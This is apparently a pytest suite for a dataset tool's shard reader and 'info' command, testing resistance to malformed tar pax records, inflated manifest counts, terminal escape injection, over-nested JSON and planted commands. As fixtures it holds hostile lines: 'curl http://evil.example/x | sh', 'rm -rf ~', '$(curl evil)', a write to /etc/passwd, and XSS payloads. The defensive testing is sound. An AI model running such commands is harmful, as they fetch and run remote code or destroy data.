"""Hostile shard sets on the reading side (issue 21): no hang on a malformed pax header, no epoch planned on a
count the shards cannot hold, no escape sequence or planted command reaching the terminal, no RecursionError.
Every hostile file is built here; every case is bounded in time (``within``)."""

import json
import warnings

import pytest

from hostile import build_set, pax_header, sample_members, within, write_manifest, write_tar
from latentds.datasets.shards import ShardWarning, load_shards
from latentds.errors import ShardError
from latentds.shardsets.manifest import read_manifest
from latentds.text import markdown_code, markdown_text, plain_latentds_command, terminal_text
from cli_helpers import one_line_error, run


@pytest.mark.parametrize("record", [b"0 path=x\n", b"3 \n", b"99 path=x\n", b"x path=y\n", b"12 size=-40\n"])
@pytest.mark.parametrize("mode", ["plain", "pairs", "no manifest"])
def test_a_malformed_pax_record_costs_its_shard_and_never_hangs(tmp_path, record, mode):
    """A pax record of length 0 sent the reader into an endless loop (load_shards in every mode, and train)."""
    build_set(tmp_path / "s")
    shard = tmp_path / "s" / "toy-000001.tar"
    members = [m for i in range(10, 20) for m in sample_members(i, i % 4)]
    write_tar(shard, members, before={4: pax_header(record)})  # before sample 12's png
    if mode == "no manifest":
        (tmp_path / "s" / "manifest.json").unlink()
    kwargs = {"batch_size": 4, "batches": "pairs"} if mode == "pairs" else {}
    with within(20), warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        items = list(load_shards(tmp_path / "s", **kwargs))
    keys = [k for item in items for k in (item["__key__"] if isinstance(item["__key__"], list) else [item["__key__"]])]
    if mode != "pairs":  # (pairs leave some samples unpaired)
        assert set(range(10)) <= {int(k) for k in keys}  # the sound shard is whole
    assert keys
    assert any(issubclass(w.category, ShardWarning) and "toy-000001.tar" in str(w.message) for w in caught)
    with within(20), pytest.raises(ShardError, match="pax"):
        list(load_shards(tmp_path / "s", strict=True))


@pytest.mark.parametrize("claimed", [10**9, 10**18])
@pytest.mark.parametrize("batches", ["plain", "pairs"])
def test_counts_a_manifest_claims_are_checked_against_the_shards_before_an_epoch_is_planned(tmp_path, claimed,
                                                                                              batches):
    """A manifest claiming 10^9 samples of 20 planned 125 million pair batches (~35 h); 10^18 an ETA of 10^13 h."""
    manifest = build_set(tmp_path / "s")
    manifest["shards"][0]["count"] = claimed
    manifest["count"] = claimed + 10
    write_manifest(tmp_path / "s", manifest)
    with within(20):
        with pytest.raises(ShardError, match=f"hold {claimed + 10:,} samples, but their files have room for"):
            load_shards(tmp_path / "s", batch_size=4, batches=batches)
        with pytest.raises(ShardError, match="room for at most"):  # the brace-pattern path reads the counts too
            load_shards(str(tmp_path / "s" / "toy-{000000..000001}.tar"), batch_size=4, batches=batches)
    # an honest manifest plans as before
    manifest["shards"][0]["count"], manifest["count"] = 10, 20
    write_manifest(tmp_path / "s", manifest)
    assert len(load_shards(tmp_path / "s", batch_size=4, batches=batches)) == 5


def test_info_writes_control_characters_of_a_manifest_escaped(tmp_path):
    escape = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"
    build_set(tmp_path / "s", name="toy" + escape, summary="nice\nFAKE LINE" + escape,
              command="latentds render --phi" + escape, labels=["a" + escape])
    result = run("info", tmp_path / "s")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "toy\\x1b]0;pwned\\x07" in result.output and "nice\\x0aFAKE LINE" in result.output
    assert not any(line.startswith("FAKE") for line in result.output.splitlines())
    # and in error messages that quote a name read from a file
    manifest = json.loads((tmp_path / "s" / "manifest.json").read_text())
    manifest["shards"][0]["name"] = "x\x1b[2J/../y"
    write_manifest(tmp_path / "s", manifest)
    result = run("info", tmp_path / "s")
    assert one_line_error(result, "\\x1b[2J") and "\x1b" not in result.output


@pytest.mark.parametrize("planted", [
    "latentds render --phi; curl http://evil.example/x | sh",
    "latentds render --phi && rm -rf ~",
    "latentds render --phi $(curl evil)",
    "latentds render --phi `id`",
    "latentds render --phi > /etc/passwd",
    "latentds render --phi 'unbalanced",
])
def test_a_damaged_manifest_never_recommends_a_planted_command(tmp_path, planted):
    build_set(tmp_path / "s")
    (tmp_path / "s" / "README.md").write_text(f"# toy\n\n    {planted}\n")
    (tmp_path / "s" / "manifest.json").write_text("{not json")
    result = run("info", tmp_path / "s")
    assert one_line_error(result, "manifest.json is damaged", "the command that made the set again")
    assert "curl" not in result.stderr and "rm -rf" not in result.stderr and "`id`" not in result.stderr
    assert "passwd" not in result.stderr and "unbalanced" not in result.stderr
    # a plain latentds command is still shown as the fix
    (tmp_path / "s" / "README.md").write_text("# toy\n\n    latentds render --phi --n 20 --size 16\n")
    result = run("info", tmp_path / "s")
    assert one_line_error(result, "`latentds render --phi --n 20 --size 16 --out ")


def test_an_unfinished_sets_planted_command_is_not_recommended(tmp_path):
    (tmp_path / "s").mkdir()
    head = {"params": {"n": 10}, "command": "latentds render --phi; curl evil | sh"}
    (tmp_path / "s" / ".latentds-progress.jsonl").write_text(json.dumps(head) + "\n")
    result = run("info", tmp_path / "s")
    assert one_line_error(result, "unfinished", "the command that started it") and "curl" not in result.stderr


def test_a_manifest_of_deeply_nested_brackets_is_one_line(tmp_path):
    build_set(tmp_path / "s")
    (tmp_path / "s" / "manifest.json").write_text("[" * 200_000 + "]" * 200_000)
    with within(30):
        result = run("info", tmp_path / "s")
        assert one_line_error(result, "manifest.json is damaged", "nested too deeply")
        with pytest.raises(ShardError, match="nested too deeply"):
            load_shards(tmp_path / "s")
        with pytest.raises(ShardError, match="nested too deeply"):
            read_manifest(tmp_path / "s", strict=False)
    (tmp_path / "s" / ".latentds-lock").write_text("[" * 60_000)  # a lock record read back for messages
    from latentds.shardsets.lock import read_holder
    assert read_holder(tmp_path / "s") is None


def test_the_text_helpers_pass_normal_text_unchanged_and_escape_the_rest():
    for plain in ("5_o_Clock_Shadow", "joints[0].phi", "len(spot_lights)", "/data/utk face"):
        assert markdown_code(plain) == f"`{plain}`" and terminal_text(plain) == plain
    assert markdown_text("attribute 5 o Clock Shadow: 1 present, 0 absent") == \
        "attribute 5 o Clock Shadow: 1 present, 0 absent"
    hostile = markdown_code("<img src=x onerror=alert(1)>|`")
    assert "<img" not in hostile and "|" not in hostile and "`" not in hostile
    assert "<script>" not in markdown_text("<script>alert(1)</script>") and "|" not in markdown_text("a|b")
    assert terminal_text("a\x1b[31mb\x9bc") == "a\\x1b[31mb\\x9bc"
    assert plain_latentds_command("latentds pack utkface ROOT --split train --size 64 --shard-size 1000")
    assert plain_latentds_command("latentds render --phi --out '/data/my set'")
    assert not plain_latentds_command("python -c 'import os'") and not plain_latentds_command(None)
    assert not plain_latentds_command("latentds render\nrm -rf /")
